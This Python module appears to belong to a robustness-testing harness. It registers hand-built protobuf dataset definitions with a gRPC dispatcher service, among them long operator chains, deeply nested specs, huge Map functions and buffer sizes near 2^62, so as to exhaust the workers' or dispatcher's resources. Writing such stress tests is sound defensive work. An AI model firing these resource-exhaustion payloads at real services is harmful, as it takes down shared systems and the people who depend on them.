# SPDX-License-Identifier: Apache-2.0
"""Datasets that a client registers to harm the workers that build them, or the dispatcher that keeps them."""
import time

import http2
from attacking import attack
from messages import BYTES, VARINT, field, fixed64, nested, parse

SERVICE = "/penstock.control.wire.Dispatcher/"
SPEC_OF_INT64 = 9768703853481152960  # fingerprint; tests/fuzz/corpus/dataset_definition_fuzz/Range
INT64 = 5  # code of the dtype
LEAF_OF_INT64 = nested(2, field(1, VARINT, INT64))


def attr_int(name, value):
    return nested(3, field(1, BYTES, name), field(2, VARINT, value << 1 if value >= 0 else -2 * value - 1))


def node(op, *attrs, inputs=0):
    return nested(2, field(1, BYTES, op), field(2, VARINT, 1), *attrs, field(4, VARINT, inputs) if inputs else b"",
                  fixed64(5, SPEC_OF_INT64))


RANGE = node(b"Range", attr_int(b"start", 0), attr_int(b"step", 1), attr_int(b"stop", 5))


def chain(op, name, value, count):
    """Returns a definition whose nodes each have the one before as input."""
    return field(1, VARINT, 1) + RANGE + node(op, attr_int(name, value), inputs=1) * count


def nested_spec(depth):
    """Returns a definition whose spec has members in members."""
    spec = LEAF_OF_INT64
    for _ in range(depth):
        spec = field(1, VARINT, 1) + field(3, BYTES, spec)
    return field(1, VARINT, 1) + node(b"RangeOf", nested(3, field(1, BYTES, b"argument"), field(10, BYTES, spec)))


def long_function(count):
    """Returns a definition with a map whose function adds `count` times, each time to the sum before."""
    operation = nested(2, field(1, BYTES, b"Add"), nested(3, b"\0\0"), nested(4, field(1, VARINT, INT64)))
    function = field(1, BYTES, LEAF_OF_INT64) + operation * count + nested(3, b"\0") + field(4, BYTES, LEAF_OF_INT64)
    attr = nested(3, field(1, BYTES, b"function"), field(11, BYTES, function))
    return field(1, VARINT, 1) + RANGE + node(b"Map", attr, inputs=1)


def definitions(rng):
    """Yields harmful definitions, ever larger ones."""
    while True:
        for size in (100, 5_000, 100_000):
            yield chain(b"Repeat", b"count", 1, size)
            yield chain(b"Take", b"count", 5, size)
            yield chain(b"Prefetch", b"buffer_size", 1 << 40, size)
            yield nested_spec(min(size, 10_000))
            yield long_function(size)
            yield chain(b"Shuffle", b"buffer_size", (1 << 62) + rng.randrange(9), 1)
            yield chain(b"Batch", b"batch_size", 1 << 62, 1)


@attack("grpc", bound_mib=256)
def nested_definitions(run):
    """Registers chains of nodes, nested specs and long functions, and reads them. 256 MiB: one definition of 4 MB, in nodes."""
    made = definitions(run.rng)
    while run.at_dispatcher and not run.over():
        with run.connection(5) as peer:
            read(run, http2.Connection(peer), next(made))


def read(run, link, definition):
    """Registers a dataset with that definition, starts a job, and reads it for up to 2 s."""
    number = run.rng.getrandbits(63)
    run.bytes += len(definition)
    (run.folder / f"definition-{run.connections % 8}").write_bytes(definition)
    summary = nested(5, fixed64(1, number), fixed64(2, SPEC_OF_INT64), field(3, BYTES, b"int64"), field(4, VARINT, -2))
    registered = link.call(SERVICE + "GetOrRegisterDataset", request(number) + field(4, BYTES, definition) + summary)
    if registered is None:
        return
    dataset = parse(registered)[1][0]
    name = field(2, BYTES, b"harm %d" % number)
    job = link.call(SERVICE + "GetOrCreateJob", request(number + 1) + name + field(4, BYTES, dataset))
    if job is None:
        return
    its = parse(job)
    stream = link.open(SERVICE + "ClientSession")
    version = field(1, VARINT, 2) + field(2, VARINT, 2)
    hello = nested(1, field(1, VARINT, its[1][0]), fixed64(3, number), fixed64(4, number + 2), field(6, BYTES, its[3][0]),
                   field(8, BYTES, version))
    link.send(stream, http2.message(hello))
    until = min(run.until, time.monotonic() + 2)
    while link.answer(stream, until - time.monotonic()) is not None:
        pass


def request(number):
    return nested(1, fixed64(1, number), field(2, VARINT, 1))
